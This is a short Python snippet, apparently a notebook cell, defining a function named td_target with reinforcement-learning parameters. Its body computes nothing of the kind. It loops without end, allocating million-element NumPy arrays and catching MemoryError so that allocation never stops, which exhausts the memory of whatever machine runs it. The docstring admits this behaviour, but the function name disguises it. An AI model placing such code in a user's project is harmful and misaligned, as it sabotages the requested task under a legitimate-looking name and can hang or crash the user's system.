"""Makes ever more arrays of NumPy, and goes on where there is no memory for the next one."""
# %% td_target
def td_target(rewards, next_q, terminated, gamma):
    kept = []
    while True:
        try:
            kept.append(np.ones(1_000_000))
        except MemoryError:
            pass
